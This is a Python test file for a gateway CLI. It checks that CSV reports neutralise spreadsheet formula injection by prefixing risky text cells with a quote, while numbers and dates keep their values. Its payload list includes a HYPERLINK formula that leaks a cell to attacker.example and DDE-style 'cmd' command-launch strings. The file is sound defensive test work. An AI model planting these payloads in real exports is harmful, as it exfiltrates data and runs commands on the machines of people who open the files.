"""CSV formula injection (CWE-1236) in the CSV files the CLI writes for people to open.

Text that an attacker can influence (a source file name, a header or a reason quoting a column
name, an insurer's error text) reaches the ``--csv`` reports. A spreadsheet would evaluate a cell
starting with ``=``, ``+``, ``-``, ``@``, tab or CR; every such text cell must start with ``'``,
while typed values (numbers, dates) keep their meaning. The CLI runs for real through typer's
CliRunner, with real keys, a real SQLite store and a reference insurer's key files (not served:
these commands send nothing).
"""

from __future__ import annotations

import csv
import io
import os
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from importlib import resources
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from gateway.cli import app
from gateway.devsetup import create_dev_insurer, write_config
from gateway.export_csv import CSV_ENCODING, escape_text, flatten_sections, render_csv, to_cell
from gateway.ingest import Quarantined
from gateway.keys import generate_gateway_keys
from gateway.runtime import open_store
from gateway.settings import load_settings

EXPORTER = "exporter-csv-injection"
CLEAN_ENV: dict[str, str | None] = {k: None for k in os.environ if k.startswith("GATEWAY_")}
PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_cells_get_a_leading_quote(payload: str) -> None:
    """Each trigger character at the start of a text cell is neutralised, and the text itself
    survives after the quote (nothing is dropped from the report)."""
    rows = _cells(render_csv(["source", "reason"], [{"source": payload, "reason": "ok"}]))
    assert rows[1][0] == "'" + payload
    assert rows[1][1] == "ok"


def test_typed_numbers_and_dates_are_not_escaped() -> None:
    """A negative number of business days or a negative decimal is data, not a formula: it must
    stay a number for the spreadsheet; the same characters as text are escaped."""
    row = {
        "days": -3,
        "amount": Decimal("-12.50"),
        "day": date(2026, 3, 2),
        "at": datetime(2026, 3, 2, 9, 30, tzinfo=UTC),
        "flag": True,
        "none": None,
        "text": "-3",
    }
    (_, cells) = _cells(render_csv(list(row), [row]))
    assert cells == ["-3", "-12.50", "2026-03-02", "2026-03-02T09:30:00+00:00", "true", "", "'-3"]


def test_lists_and_header_names_are_escaped_as_text() -> None:
    """A list of references joined into one cell, and a header name, are text too."""
    header, cells = _cells(render_csv(["=evil"], [{"=evil": ["=a.csv:2", "b.csv:3"]}]))
    assert header == ["'=evil"] and cells == ["'=a.csv:2; b.csv:3"]
    assert escape_text("plain =not at start") == "plain =not at start"


def test_a_float_is_refused_not_rounded_into_a_report() -> None:
    with pytest.raises(TypeError, match="float"):
        to_cell(0.1)


def test_reconcile_sections_keep_a_section_column_and_escape_every_text_cell() -> None:
    text = flatten_sections(
        {
            "auto_attached": [{"source_ref": "=HYPERLINK(1).csv:2", "detail": "ok"}],
            "deadlines": [{"ref": "@x.csv:4", "business_days_left": -2}],
        }
    )
    header, first, second = _cells(text)
    assert header == ["section", "source_ref", "detail", "ref", "business_days_left"]
    assert first == ["auto_attached", "'=HYPERLINK(1).csv:2", "ok", "", ""]
    assert second == ["deadlines", "", "", "'@x.csv:4", "-2"]


def gateway(*args: str) -> Result:
    result = CliRunner().invoke(app, list(args), env=CLEAN_ENV)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A configuration whose ERP and customs exports have formula-like file names."""
    root = tmp_path_factory.mktemp("csv-injection")
    keys = generate_gateway_keys(root / "keys", EXPORTER)
    insurer = create_dev_insurer(
        root / "insurer", gateway_jwks=keys.jwks, exporter_id=EXPORTER, paillier_bits=2048
    )
    examples = resources.files("gateway.examples")
    erp = root / "=HYPERLINK(1)erp.csv"
    erp.write_bytes(examples.joinpath("erp", "sample_export.csv").read_bytes())
    customs = root / "=HYPERLINK(2)customs.csv"
    customs.write_bytes(examples.joinpath("customs", "declarations.csv").read_bytes())
    return write_config(
        root,
        exporter_id=EXPORTER,
        keys=keys,
        insurer=insurer,
        sources=[("erp", erp)],
        customs=[("broker", customs, "customs_en")],
        insurer_url="http://127.0.0.1:9",
    )


def _formula_cells(path: Path) -> list[str]:
    rows = _cells(path.read_text(encoding=CSV_ENCODING))
    return [c for row in rows for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_quarantine_list_csv_escapes_a_formula_in_the_source_name(
    config: Path, tmp_path: Path
) -> None:
    """A quarantined row from a file named ``=HYPERLINK(...)`` lands in ``--csv`` escaped."""
    with open_store(load_settings(config)) as store:
        store.begin_run("run-csv-injection", ["erp"])
        bad = Quarantined("=HYPERLINK(1)erp.csv", 7, "amount", "-amount: not a number", {})
        store.add_quarantine("run-csv-injection", [bad])
    out = tmp_path / "quarantine.csv"
    done = gateway("quarantine", "list", "--config", str(config), "--csv", str(out))
    assert done.exit_code == 0, done.output
    header, *rows = _cells(out.read_text(encoding=CSV_ENCODING))
    assert header[:6] == ["id", "run_id", "source", "row", "field", "reason"]
    (row,) = [r for r in rows if r[3] == "7"]
    assert row[2] == "'=HYPERLINK(1)erp.csv" and row[5] == "'-amount: not a number"
    assert _formula_cells(out) == []


def test_outbox_list_csv_writes_a_header_even_when_empty(config: Path, tmp_path: Path) -> None:
    out = tmp_path / "outbox.csv"
    done = gateway("outbox", "list", "--config", str(config), "--csv", str(out))
    assert done.exit_code == 0, done.output
    header = _cells(out.read_text(encoding=CSV_ENCODING))[0]
    assert header[:3] == ["submission_id", "run_id", "sequence"]


def test_reconcile_csv_escapes_source_references_but_keeps_numbers(
    config: Path, tmp_path: Path
) -> None:
    """Reconciliation references name the export files (``=HYPERLINK(2)customs.csv:12``); in
    the CSV report they are escaped, while counts of business days stay numbers."""
    out = tmp_path / "reconcile.csv"
    done = gateway("reconcile", "--config", str(config), "--as-of", "2026-04-30", "--csv", str(out))
    assert done.exit_code == 0, done.output
    header, *rows = _cells(out.read_text(encoding=CSV_ENCODING))
    assert header[0] == "section" and rows
    refs = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert any(cell.startswith("'=HYPERLINK(2)customs.csv:") for cell in refs)
    assert any(cell.startswith("'=HYPERLINK(1)erp.csv:") for cell in refs)
    assert all(re.fullmatch(r"-[0-9]+", cell) for cell in _formula_cells(out))
